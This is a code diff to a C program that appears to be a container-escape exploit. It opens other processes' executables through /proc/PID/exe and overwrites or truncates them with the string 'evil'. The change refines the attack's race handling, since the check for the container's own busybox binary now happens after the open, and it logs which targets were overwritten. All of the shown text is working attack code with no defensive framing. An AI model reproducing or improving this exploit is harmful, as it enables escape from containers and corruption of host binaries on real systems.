@@ -27,27 +27,38 @@ static void write_to(int fd) {
         if (again < 0)
             continue;
         if (write(again, "evil", 4) == 4 || ftruncate(again, 0) == 0) {
-            printf("written\n");
+            char target[256] = "";
+            if (readlink(path, target, sizeof(target) - 1) < 0)
+                target[0] = '\0';
+            printf("written: %s\n", target);
             written++;
         }
         close(again);
     }
 }
 
-static void attack(const char *pid) {
+/* Whether a descriptor is of the container's own program, which anybody in it may write to. */
+static int is_own(int fd) {
     char path[64], target[256] = "";
+    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+    return readlink(path, target, sizeof(target) - 1) <= 0 || strstr(target, "busybox") != NULL;
+}
+
+static void attack(const char *pid) {
+    char path[280];
     snprintf(path, sizeof(path), "/proc/%s/exe", pid);
     kill(atoi(pid), SIGSTOP);
-    if (readlink(path, target, sizeof(target) - 1) > 0 && strstr(target, "busybox") == NULL) {
-        int fd = open(path, O_RDONLY | O_CLOEXEC);
-        if (fd >= 0) {
-            if (opened == 0)
-                printf("opened the first\n");
-            write_to(fd);
-            /* Once nobody runs it any more, ETXTBSY protects it no longer. */
-            close(held[opened % HELD]);
-            held[opened++ % HELD] = fd;
-        }
+    int fd = open(path, O_RDONLY | O_CLOEXEC);
+    /* Looked at now that it is open: a process becomes another until it has stopped. */
+    if (fd >= 0 && is_own(fd))
+        close(fd);
+    else if (fd >= 0) {
+        if (opened == 0)
+            printf("opened the first\n");
+        write_to(fd);
+        /* Once nobody runs it any more, ETXTBSY protects it no longer. */
+        close(held[opened % HELD]);
+        held[opened++ % HELD] = fd;
     }
     kill(atoi(pid), SIGCONT);
 }
